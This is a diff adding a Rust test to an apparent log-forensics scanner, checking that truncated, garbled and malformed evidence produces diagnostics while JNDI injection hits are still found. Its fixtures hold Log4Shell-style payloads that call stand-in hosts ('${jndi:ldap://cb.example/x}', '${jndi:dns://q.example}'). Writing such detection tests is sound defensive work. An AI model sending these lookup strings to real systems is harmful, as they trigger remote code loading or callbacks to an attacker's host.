@@ -478,3 +478,27 @@ fn bundle_without_logs_gives_empty_section() {
     let s = scan_bundle(&arts, &engine());
     assert!(s.log_hits.is_empty() && s.iocs.is_empty());
 }
+
+#[test]
+fn hostile_input_gives_diagnostics_not_panics() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = b"198.51.100.4 - - [27/Nov/2026:13:00:00 +0000] \"GET /?x=${jndi:ldap://cb.example/x} HTTP/1.1\" 200 1\n";
+    let mut big = vec![b'x'; 300_000];
+    big[..log.len()].copy_from_slice(log);
+    let tar = tar_with(&[("var/log/app.log", &big)]);
+    // Cut inside the log member: what was read before the cut is still scanned.
+    let cut = &tar[..200_000];
+    let garbage: Vec<u8> = (0..100_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
+    write_files(dir.path(), &[("export.tar", cut), ("noise.log", &garbage), ("bad-json.log", b"{\"log\":\"x\" broken\n{\"log\":\"${jndi:dns://q.example}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:00Z\"}\n")]);
+    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    let b = &v["bundles"][0];
+    let diags = b["diagnostics"].as_array().unwrap();
+    assert!(
+        diags.iter().any(|d| d["level"] == "error" && d["locator"]["artifact"] == "export.tar"),
+        "{diags:#?}"
+    );
+    assert_eq!(code & 2, 2, "unreadable evidence sets exit bit 1");
+    let hits = b["log_hits"].as_array().unwrap();
+    assert!(hits.iter().any(|h| h["locator"]["members"][0] == "var/log/app.log"), "{hits:#?}");
+    assert!(hits.iter().any(|h| h["jndi"]["host"] == "q.example"), "{hits:#?}");
+}
